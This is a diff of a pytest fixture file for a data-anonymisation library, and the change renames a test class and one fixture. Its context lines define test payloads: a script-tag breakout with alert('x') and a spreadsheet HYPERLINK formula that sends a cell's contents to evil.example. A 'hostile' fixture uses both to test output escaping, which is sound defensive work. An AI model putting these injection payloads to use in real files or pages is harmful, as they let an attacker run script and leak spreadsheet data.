@@ -22,7 +22,7 @@ EVIL = "</script><script>alert('x')</script>"
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1)'
 
 
-class Told:
+class Example:
     """A table, its policy, its release and the attacks on it."""
 
     def __init__(self, frame: pl.DataFrame, policy: Policy, *, method: str = "mondrian") -> None:
@@ -52,18 +52,18 @@ def table(rows: int = 240) -> pl.DataFrame:
 
 
 @pytest.fixture(scope="session")
-def ordinary() -> Told:
+def ordinary() -> Example:
     policy = Policy(
         identifiers=["name"],
         quasi={"age": {}, "zip": {"hierarchy": {"prefix": [5, 4, 3]}}, "sex": {}},
         sensitive={"pay": {"t": 0.2}, "disease": {"t": "1/3", "distance": "equal", "l": 2}},
         k=4,
     )
-    return Told(table(), policy)
+    return Example(table(), policy)
 
 
 @pytest.fixture(scope="session")
-def hostile() -> Told:
+def hostile() -> Example:
     """Names and values that break out of HTML, of JSON in a script, and of a spreadsheet's cell."""
     frame = table().rename({"sex": EVIL, "disease": FORMULA})
     evil = pl.col(FORMULA).replace(
@@ -76,7 +76,7 @@ def hostile() -> Told:
         sensitive={"pay": {"t": 0.3}, FORMULA: {"t": 0.4, "distance": "equal"}},
         k=4,
     )
-    return Told(frame, policy)
+    return Example(frame, policy)
 
 
 class _Text(HTMLParser):
@@ -121,8 +121,8 @@ def text_of() -> Callable[[str], str]:
 
 
 @pytest.fixture(scope="session")
-def told() -> type[Told]:
-    return Told
+def make_example() -> type[Example]:
+    return Example
 
 
 @pytest.fixture(scope="session")
